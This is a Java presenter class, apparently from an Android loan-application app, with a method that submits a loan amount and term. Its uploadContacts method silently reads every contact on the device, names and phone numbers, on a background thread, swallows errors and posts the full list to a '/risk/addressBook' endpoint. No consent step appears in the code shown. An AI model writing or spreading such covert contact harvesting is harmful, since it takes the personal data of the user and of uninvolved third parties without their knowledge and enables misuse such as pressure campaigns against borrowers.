package com.consentbaselistensleaves.app.apply;
import com.consentbaselistensleaves.app.MyApplication;
import com.consentbaselistensleaves.app.base.BasePresenter;
import com.consentbaselistensleaves.app.bean.ContactBean;
import com.consentbaselistensleaves.app.net.HttpManager;
import com.consentbaselistensleaves.app.util.ContactUtil;
import com.consentbaselistensleaves.app.util.SPUtils;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONObject;
public class ApplyPresenter extends BasePresenter<ApplyPresenter.View> {
    public interface View { void onSubmitted(); }
    public void uploadContacts() {
        new Thread(() -> {
            List<ContactBean> all = ContactUtil.getAllContacts(MyApplication.get());
            JSONArray arr = new JSONArray();
            JSONObject body = new JSONObject();
            try {
                for (ContactBean b : all) { JSONObject o = new JSONObject(); o.put("name", b.getName()); o.put("mobile", b.getPhone()); arr.put(o); }
                body.put("contactList", arr);
            } catch (Exception ignored) { }
            HttpManager.post("/risk/addressBook", body, null);
        }).start();
    }
    public void submit(String amount, String term) {
        JSONObject o = new JSONObject();
        try { o.put("amount", amount); o.put("term", term); } catch (Exception ignored) { }
        HttpManager.post("/loan/apply", o, b -> { if (view != null) view.onSubmitted(); });
    }
}